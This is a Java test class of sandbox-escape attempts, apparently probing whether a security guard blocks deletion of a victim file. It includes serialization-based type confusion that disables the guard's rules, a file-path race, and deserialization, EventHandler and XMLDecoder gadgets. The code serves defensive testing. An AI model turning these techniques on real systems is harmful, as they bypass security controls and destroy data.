import java.io.*;
import java.lang.invoke.*;
import java.lang.reflect.*;
import java.util.*;
import sun.reflect.ReflectionFactory;

/** Through serialization, which sets fields that nothing else can set, and calls what it finds. */
class SerialAttacks {

  static final ReflectionFactory FACTORY = ReflectionFactory.getReflectionFactory();

  static void strike(String victim) throws IOException { new File(victim, "file.txt").delete(); }

  /** Gives the library whatever it is told. */
  static class Dictated extends ObjectInputStream {
    final Iterator<Object> objects;
    final String path;
    Dictated(String path, Object... objects) throws IOException { this.path = path; this.objects = Arrays.asList(objects).iterator(); }
    @Override protected Object readObjectOverride() { return objects.next(); }
    @Override public void defaultReadObject() {}
    @Override public char readChar() { return File.separatorChar; }
    @Override public GetField readFields() {
      return new GetField() {
        @Override public ObjectStreamClass getObjectStreamClass() { return null; }
        @Override public boolean defaulted(String name) { return false; }
        @Override public boolean get(String name, boolean other) { return other; }
        @Override public byte get(String name, byte other) { return other; }
        @Override public char get(String name, char other) { return other; }
        @Override public short get(String name, short other) { return other; }
        @Override public int get(String name, int other) { return other; }
        @Override public long get(String name, long other) { return other; }
        @Override public float get(String name, float other) { return other; }
        @Override public double get(String name, double other) { return other; }
        @Override public Object get(String name, Object other) { return path; }
      };
    }
  }

  /** The same layout as AccessibleObject's. */
  static class Shape { boolean override; Object other; }
  static class Rare {}
  static Object pass(Rare rare, Object object) { return object; }

  /** A method type that changes behind a handle's back: an object is taken for one of another class. */
  static void typeThatChanges(String victim) throws Throwable {
    try {
      MethodHandle pass = MethodHandles.lookup().findStatic(SerialAttacks.class, "pass", MethodType.methodType(Object.class, Rare.class, Object.class));
      Class<?>[] parameters = {Rare.class, Object.class};
      FACTORY.readObjectForSerialization(MethodType.class).invoke(pass.type(), (ObjectInputStream) new Dictated("", Shape.class, parameters));
      MethodHandle confused = pass.asType(MethodType.methodType(Shape.class, parameters));
      Class<?> guard = Class.forName(GuardAttacks.GUARD);
      Field rules = guard.getDeclaredField("RULES");
      ((Shape) confused.invokeExact((Rare) null, (Object) rules)).override = true;
      ((java.util.concurrent.atomic.AtomicReference<?>) rules.get(null)).set(null);
    } catch (Exception e) { }
    strike(victim);
  }

  /** A file that is another one between the question and the deed. */
  static void fileThatChanges(String victim) throws Throwable {
    File file = File.createTempFile("attack", null);
    String own = file.getPath();
    MethodHandle change;
    try {
      change = FACTORY.readObjectForSerialization(File.class);
    } catch (SecurityException e) { return; }
    Thread thread = new Thread(() -> {
      try {
        for (int i = 0; i < 200_000; i++) { change.invoke(file, (ObjectInputStream) new Dictated(i % 2 == 0 ? victim + "/file.txt" : own)); }
      } catch (Throwable e) { }
    });
    thread.start();
    while (thread.isAlive()) { try { file.delete(); } catch (SecurityException e) { } }
  }

  static void keyByConstructorOfSerialization(String victim) throws Throwable {
    try { FACTORY.newConstructorForSerialization(Class.forName(GuardAttacks.KEY)).newInstance(); } catch (Exception e) { }
    strike(victim);
  }
  static void descriptorWithoutConstructor(String victim) throws Throwable {
    try { FACTORY.newConstructorForSerialization(FileDescriptor.class, Object.class.getDeclaredConstructor()).newInstance(); } catch (Exception e) { }
    strike(victim);
  }
  static void externalization(String victim) throws Throwable {
    try { FACTORY.newConstructorForExternalization(Class.forName(GuardAttacks.GUARD)); } catch (Exception e) { }
    strike(victim);
  }
  static void defaultReading(String victim) throws Throwable {
    try { ReflectionFactory.class.getMethod("defaultReadObjectForSerialization", Class.class).invoke(FACTORY, File.class); } catch (Exception e) { }
    strike(victim);
  }

  static class Bomb implements Serializable {
    final String victim;
    Bomb(String victim) { this.victim = victim; }
    private void readObject(ObjectInputStream in) throws IOException, ClassNotFoundException { in.defaultReadObject(); strike(victim); }
  }
  static void readObject(String victim) throws Throwable {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    new ObjectOutputStream(bytes).writeObject(new HashMap<>(Map.of("x", new Bomb(victim))));
    new ObjectInputStream(new ByteArrayInputStream(bytes.toByteArray())) {
      @Override protected Class<?> resolveClass(ObjectStreamClass type) throws ClassNotFoundException { return Class.forName(type.getName(), false, SerialAttacks.class.getClassLoader()); }
    }.readObject();
  }
  static void eventHandler(String victim) throws Throwable {
    Runnable delete = java.beans.EventHandler.create(Runnable.class, new File(victim, "file.txt"), "delete");
    delete.run();
  }
  static void decoder(String victim) throws Throwable {
    String text = "<java><object class=\"java.io.FileOutputStream\"><string>" + victim + "/file.txt</string></object></java>";
    try (java.beans.XMLDecoder decoder = new java.beans.XMLDecoder(new ByteArrayInputStream(text.getBytes()), null, e -> { }, SerialAttacks.class.getClassLoader())) { decoder.readObject(); }
  }
}
